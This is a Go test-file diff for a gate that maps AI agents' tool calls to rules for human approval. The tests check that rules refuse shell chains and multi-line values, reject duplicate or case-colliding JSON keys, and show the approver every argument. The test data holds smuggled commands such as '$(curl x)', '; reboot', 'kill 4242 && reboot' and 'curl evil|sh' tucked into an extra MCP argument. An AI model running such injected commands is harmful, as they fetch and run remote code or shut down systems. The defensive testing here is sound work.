@@ -1,6 +1,7 @@
 package gate
 
 import (
+	"encoding/json"
 	"strings"
 	"testing"
 	"time"
@@ -167,6 +168,7 @@ func TestCompileRefusesBadRules(t *testing.T) {
 		{"a target pattern without a target", RuleFile{Tool: "Bash", Action: "x", TargetPattern: "(x)"}, `needs "target"`},
 		{"a target pattern without a group", RuleFile{Tool: "Bash", Action: "x", Target: "c", TargetPattern: "x"}, "needs a group"},
 		{"an unknown asset kind", RuleFile{Tool: "Bash", Action: "x", AssetKind: "vm"}, "not an asset kind"},
+		{"an unknown framework", RuleFile{Tool: "Bash", Action: "x", From: "autogen"}, "not a gate format"},
 	}
 	for _, tc := range cases {
 		t.Run(tc.name+" is refused", func(t *testing.T) {
@@ -340,5 +342,158 @@ func TestDurationReadsAsPeopleSayIt(t *testing.T) {
 		if got := Duration(d); got != want {
 			t.Errorf("Duration(%v) = %q; want %q", d, got, want)
 		}
+	}
+}
+
+// A rule's pattern cannot let a line break through: \s matches one, so a
+// pattern written with it would map "iptables -A\ninit 0\n-s …" as a block.
+// No rule matches a tested argument holding a control character, nor a
+// Bash command (or a rule's shell argument) holding a shell's
+// metacharacters, whatever its pattern.
+func TestNoPatternMapsAValueOfSeveralLinesOrAShellChain(t *testing.T) {
+	m, err := Compile(MappingFile{Rules: []RuleFile{
+		{Tool: "Bash", When: map[string]string{"command": `^\s*iptables(\s+\S+)*\s+-j\s+DROP\s*$`}, Action: "block_ip"},
+		{Tool: "run", When: map[string]string{"line": `^kill(\s+\S+)+$`}, Shell: []string{"line"}, Action: "kill_process"},
+		{Tool: "note", When: map[string]string{"text": `(?s)^.*$`}, Action: "annotate"},
+	}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	cases := []struct {
+		tool, arg, value string
+		mapped           bool
+	}{
+		{"Bash", "command", "iptables -A INPUT -s 203.0.113.7 -j DROP", true},
+		{"Bash", "command", "iptables\t-A INPUT -s 203.0.113.7 -j DROP", true},
+		{"Bash", "command", "iptables -A\ninit 0\n-s 203.0.113.7 -j DROP", false},
+		{"Bash", "command", "iptables -A\rINPUT -s 203.0.113.7 -j DROP", false},
+		{"Bash", "command", "iptables -A INPUT -s 203.0.113.7 -j DROP\u2028", false},
+		{"Bash", "command", "iptables -A INPUT -s $(curl x) -j DROP", false},
+		{"Bash", "command", "iptables -A INPUT -s 1.2.3.4 -j DROP; reboot -j DROP", false},
+		{"Bash", "command", "iptables -A INPUT -s 1.2.3.4 `reboot` -j DROP", false},
+		{"Bash", "command", "iptables -A INPUT -s 1.2.3.4 -j DROP & reboot -j DROP", false},
+		{"Bash", "command", "iptables -A INPUT -s 1.2.3.4 | sh -j DROP", false},
+		{"Bash", "command", "iptables -A INPUT -s 'x y' -j DROP", false},
+		{"run", "line", "kill 4242", true},
+		{"run", "line", "kill 4242 && reboot", false},
+		{"run", "line", "kill 4242\nreboot", false},
+		{"note", "text", "one line; with a semicolon", true},
+		{"note", "text", "two\nlines", false},
+	}
+	for _, tc := range cases {
+		got := m.Map(Call{Tool: tc.tool, Input: map[string]any{tc.arg: tc.value}})
+		if got.Mapped() != tc.mapped {
+			t.Errorf("%s %q: mapped %v (%s); want %v", tc.tool, tc.value, got.Mapped(), got.Action.Type, tc.mapped)
+		}
+	}
+}
+
+// A rule is bound when it names its framework (and server, for an MCP
+// approval); the arguments it does not name are listed, inside the
+// objects it looks into too.
+func TestMappedSaysWhetherTheRuleVouchesForTheWholeCall(t *testing.T) {
+	m, err := Compile(MappingFile{Rules: []RuleFile{
+		{Tool: "Read", From: "claude-code", When: map[string]string{"file_path": "^/w/"}, Args: []string{"limit"}, Action: "lookup"},
+		{Tool: "lookup", From: "openai-mcp", Server: "kb", Action: "lookup", Detail: "q"},
+		{Tool: "lookup", From: "openai-mcp", Action: "lookup", Target: "q.host"},
+		{Tool: "Glob", Action: "lookup", Detail: "pattern"},
+		{Tool: "search", From: "openai-mcp", Server: "kb-*", Action: "lookup", Detail: "q"},
+	}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	cases := []struct {
+		name    string
+		call    Call
+		rule    int
+		unnamed string
+		pre     bool
+	}{
+		{"a Read the rule names in full", Call{Format: ClaudeCode, Tool: "Read", Input: map[string]any{"file_path": "/w/x", "limit": 1}}, 1, "", true},
+		{"a Read with another argument", Call{Format: ClaudeCode, Tool: "Read", Input: map[string]any{"file_path": "/w/x", "mode": "rm"}}, 1, "mode", false},
+		{"a Read of another framework", Call{Format: LangChainHITL, Tool: "Read", Input: map[string]any{"file_path": "/w/x"}}, 0, "", false},
+		{"an MCP call on a server the rule does not name", Call{Format: OpenAIMCP, Tool: "lookup", Server: "x", Input: map[string]any{"q": map[string]any{"host": "h", "also": "y"}}}, 3, "q.also", false},
+		{"an MCP call on the server the rule names", Call{Format: OpenAIMCP, Server: "kb", Tool: "lookup", Input: map[string]any{"q": "x"}}, 2, "", true},
+		{"a call to a rule bound to no framework", Call{Format: ClaudeCode, Tool: "Glob", Input: map[string]any{"pattern": "*"}}, 4, "", false},
+		{"an MCP call to a rule naming servers by a pattern", Call{Format: OpenAIMCP, Server: "kb-evil", Tool: "search", Input: map[string]any{"q": "x"}}, 5, "", false},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			got := m.Map(tc.call)
+			if got.Rule != tc.rule || strings.Join(got.Unnamed, ",") != tc.unnamed || got.PreAuthorisable() != tc.pre {
+				t.Errorf("rule %d, unnamed %v, pre-authorisable %v; want rule %d, unnamed %q, %v", got.Rule, got.Unnamed, got.PreAuthorisable(), tc.rule, tc.unnamed, tc.pre)
+			}
+		})
+	}
+}
+
+// Arguments that name a key twice, or two keys equal but for letter case,
+// are read one way by signoff and may be read another by the tool (last
+// wins, first wins, or a case-blind match): the call is refused.
+func TestDecodeRefusesArgumentsWithAKeyTwice(t *testing.T) {
+	claudeWith := func(input string) string {
+		return `{"hook_event_name":"PreToolUse","tool_name":"mcp__edr__isolate_host","tool_input":` + input + `,"tool_use_id":"toolu_k"}`
+	}
+	openaiWith := func(args string) string {
+		b, _ := json.Marshal(args)
+		return `{"id":"mcpr_k","type":"mcp_approval_request","arguments":` + string(b) + `,"name":"isolate_host","server_label":"edr"}`
+	}
+	langchainWith := func(args string) string {
+		return `{"action_requests":[{"name":"block_ip","args":` + args + `}],"review_configs":[{"action_name":"block_ip","allowed_decisions":["approve","reject"]}]}`
+	}
+	cases := []struct {
+		name, input, want string
+	}{
+		{"the same key twice", `{"host":"web-03","host":"dc-01"}`, `names the key "host" twice`},
+		{"keys differing in case", `{"host":"web-03","Host":"dc-01"}`, `names the keys "host" and "Host", which differ only in letter case`},
+		{"keys differing by the Kelvin sign", `{"kind":"a","\u212aind":"b"}`, "differ only in letter case"},
+		{"a key twice inside an object", `{"host":"web-03","opts":{"mode":"a","MODE":"b"}}`, "differ only in letter case"},
+		{"a key twice inside a list", `{"hosts":[{"h":"a","h":"b"}]}`, `names the key "h" twice`},
+	}
+	for _, tc := range cases {
+		for f, data := range map[Format]string{ClaudeCode: claudeWith(tc.input), OpenAIMCP: openaiWith(tc.input), LangChainHITL: langchainWith(tc.input)} {
+			t.Run(tc.name+" is refused from "+string(f), func(t *testing.T) {
+				_, err := Decode(f, []byte(data))
+				if err == nil || model.ErrorCode(err) != model.EINVALID || !strings.Contains(err.Error(), tc.want) {
+					t.Fatalf("got %v; want %q", err, tc.want)
+				}
+			})
+		}
+	}
+	for _, ok := range []string{`{"host":"web-03","reason":"x"}`, `{"a":{"x":1},"b":{"x":2}}`, `{"l":[{"x":1},{"x":2}]}`} {
+		if _, err := Decode(ClaudeCode, []byte(claudeWith(ok))); err != nil {
+			t.Errorf("%s: %v", ok, err)
+		}
+	}
+}
+
+// The envelope keeps the whole call; WholeCall reads it back for the
+// person deciding: the framework, the MCP server, the tool and every
+// argument, not only the one the mapping made the detail.
+func TestWholeCallNamesServerToolAndEveryArgument(t *testing.T) {
+	oa := `{"id":"mcpr_e","type":"mcp_approval_request","arguments":"{\"ip\":\"198.51.100.9\",\"also_run\":\"curl evil|sh\"}","name":"block_ip","server_label":"random-community-server"}`
+	lc := `{"action_requests":[{"name":"block_ip","args":{"ip":"198.51.100.9","mode":"all"}}],"review_configs":[{"action_name":"block_ip","allowed_decisions":["approve","reject"]}]}`
+	cases := []struct {
+		f             Format
+		data, who, in string
+	}{
+		{OpenAIMCP, oa, "OpenAI Responses · MCP server random-community-server · tool block_ip", `{"also_run":"curl evil|sh","ip":"198.51.100.9"}`},
+		{LangChainHITL, lc, "LangChain · tool block_ip", `{"ip":"198.51.100.9","mode":"all"}`},
+		{ClaudeCode, claudeBash, "Claude Code · tool Bash", `{"command":"iptables -A INPUT -s 203.0.113.7 -j DROP","description":"Block the source","timeout":120000}`},
+	}
+	for _, tc := range cases {
+		req, err := Decode(tc.f, []byte(tc.data))
+		if err != nil {
+			t.Fatal(err)
+		}
+		c := req.Calls[0]
+		raw := NewEnvelope(tc.f, c, (&Mapping{}).Map(c)).String()
+		who, args, ok := WholeCall(raw)
+		if !ok || who != tc.who || args != tc.in {
+			t.Errorf("%s: %q %q %v; want %q %q", tc.f, who, args, ok, tc.who, tc.in)
+		}
+	}
+	if _, _, ok := WholeCall("not an envelope"); ok {
+		t.Error("a raw output that is no envelope was read as a call")
 	}
 }
